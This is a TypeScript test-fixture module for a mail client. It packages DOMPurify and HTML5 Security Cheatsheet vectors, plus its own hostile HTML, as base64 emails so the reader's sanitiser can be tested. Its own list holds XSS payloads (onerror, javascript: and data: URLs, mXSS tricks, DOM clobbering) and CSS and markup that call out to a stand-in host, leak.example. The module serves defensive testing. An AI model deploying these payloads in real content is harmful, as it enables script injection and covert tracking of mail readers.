/**
 * What was made to break a reader of mail: the vectors of the corpus's sanitiser tests, each as a letter, and every message of the corpus with
 * HTML in it. All of a batch are given one Message-ID to refer to, so that they are one conversation, opened at once.
 */
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { corpus } from '../../../test/corpus/corpus-folder.ts';
import { ordinaryMail } from '../../../test/corpus/ordinary-mail.ts';
import { otherFiles } from '../../../test/corpus/other-files.ts';

export interface HostileMail {
  name: string;
  bytes: Buffer;
}

/** Throws when the corpus is not there: nothing of this may be passed over in silence. */
export async function hostileMail(): Promise<HostileMail[]> {
  if (!existsSync(corpus))
    throw new Error(`The corpus is not beside the project: ${corpus}. The vectors and the HTML messages in it were not opened.`);
  const ordinary = (await ordinaryMail()).map((bytes, index) => ({ name: `ordinary ${index}`, bytes }));
  const others = otherFiles().filter(({ name, bytes }) => !name.startsWith('html-sanitiser') && bytes.length < 5_000_000);
  const withHtml = [...ordinary, ...others].filter(({ bytes }) => /^content-type:\s*text\/html/im.test(bytes.toString('latin1')));
  return [...vectors(), ...withHtml];
}

/** Those of DOMPurify's tests, those of the HTML5 Security Cheatsheet, and its page with all of them after one another. */
export function vectors(): HostileMail[] {
  const folder = path.join(corpus, 'html-sanitiser');
  const read = <T>(name: string) => JSON.parse(readFileSync(path.join(folder, name), 'utf8')) as T;
  const dompurify = read<{ title?: string; payload: string }[]>('dompurify/expect.json');
  const templates = read<Record<string, string>>('h5sc/payload-templates.json');
  const cheatsheet = read<{ id: number; name: string; data: string }[]>('h5sc/items.json');
  const filled = (data: string) => data.replaceAll(/%(\w+)%/g, (whole, name: string) => templates[name] ?? whole);
  return [
    ...dompurify.map(({ title, payload }, index) => letter(`dompurify ${index}: ${title ?? ''}`, payload)),
    ...cheatsheet.map(({ id, name, data }) => letter(`h5sc ${id}: ${name}`, filled(data))),
    letter('h5sc, all in one', readFileSync(path.join(folder, 'h5sc/vectors.txt'), 'utf8')),
    ...ours.map((html, index) => letter(`ours ${index}`, html)),
  ];
}

/** What the lists lack: styles that fetch, leave their place, grow with the frame or reach into the bridge; markup that fetches or leads away. */
const ours = [
  '<style>@import url(https://leak.example/a.css); @font-face { font-family: x; src: url(https://leak.example/x.woff2) } p { font-family: x }</style><p>x</p>',
  '<style>@\\69mport "https://leak.example/b.css"; p { background: u\\72l(https://leak.example/a.png) }</style><p>x</p>',
  '<style>p { --x: url(https://leak.example/c.png); background: var(--x) } p::after { content: url(https://leak.example/d.png) }</style><p>x</p>',
  '<style>:root { background: image-set("https://leak.example/e.png" 1x) } p { cursor: url(https://leak.example/f.cur), auto }</style><p>x</p>',
  '<style>@media screen { @supports (color: red) { p { background: url(//leak.example/g.png) } } } p { & b { background: url(https://leak.example/h.png) } }</style><p><b>x</b></p>',
  '<style>input[value^="a"] { background: url(https://leak.example/i.png) } @property --a { syntax: "*"; inherits: true; initial-value: 1 }</style><p>x</p>',
  '<style>p::before { content: "</style><img src=x onerror=alert(1)>" }</style><p>x</p>',
  '<div style="position: fixed; inset: 0; z-index: 99999; background: red">over everything</div>',
  '<div style="position:/**/fix\\65 d; top: 0">over everything</div>',
  '<div style="min-height: 110vh">it grows</div><div style="height: calc(100vh + 10px)">it grows</div>',
  '<img src="https://leak.example/j.png" srcset="https://leak.example/k.png 2x"><picture><source srcset="https://leak.example/l.png"><img></picture>',
  '<body background="https://leak.example/m.png"><table background="//leak.example/n.png"><tr><td background=" https://leak.example/o.png">x</table>',
  '<video src="https://leak.example/p.mp4" poster="https://leak.example/q.png" autoplay></video><audio src="https://leak.example/r.mp3" autoplay></audio>',
  '<link rel="stylesheet" href="https://leak.example/s.css"><link rel="prefetch" href="https://leak.example/t"><link rel="dns-prefetch" href="//leak.example">',
  '<meta http-equiv="refresh" content="0;url=https://leak.example/u"><base href="https://leak.example/"><a href="v">x</a><img src="w.png">',
  '<iframe src="https://leak.example/x"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="https://leak.example/y"></object>',
  '<svg><image href="https://leak.example/z.png"/><use href="https://leak.example/z.svg#a"/><style>*{background:url(https://leak.example/1.png)}</style></svg>',
  '<form action="https://leak.example/2"><input name="a" autofocus onfocus="alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<img name="getElementById"><form name="body"></form><img id="message" name="fonts"><a id="documentElement"></a><p>clobbers</p>',
  '<div id="message"></div><details open ontoggle="alert(1)"><summary>x</summary></details><p popover id="p">x</p>',
  '<a href="jav&#x09;ascript:alert(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a><a href="vbscript:x">c</a><a href="blob:https://x/1">d</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="><img src="data:image/png,<script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<template shadowrootmode="open"><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
];

const letter = (name: string, html: string): HostileMail => ({
  name,
  bytes: Buffer.from(
    [
      'From: Mallory <mallory@hostile.example>',
      'To: bob@hamburger.edu',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      ...(Buffer.from(html.toWellFormed())
        .toString('base64')
        .match(/.{1,76}/g) ?? []),
      '',
    ].join('\r\n'),
  ),
});

/** The same message as part of one conversation; its other fields, and all of its body, as they were. */
export function inConversation({ bytes }: HostileMail, conversation: string, index: number): Buffer {
  const text = bytes.toString('latin1').replace(/^From .*\r?\n/, '');
  const end = /\r?\n\r?\n/.exec(text)?.index ?? text.length;
  const header = text.slice(0, end).replaceAll(/^(?:message-id|references|in-reply-to|subject)\s*:.*(?:\r?\n[ \t].*)*\r?\n?/gim, '');
  const own = [`Message-ID: <${index}.${conversation}@hostile.example>`, `References: <root.${conversation}@hostile.example>`];
  return Buffer.from([...own, `Subject: Hostile ${conversation}`, header.trimEnd()].join('\r\n') + text.slice(end), 'latin1');
}
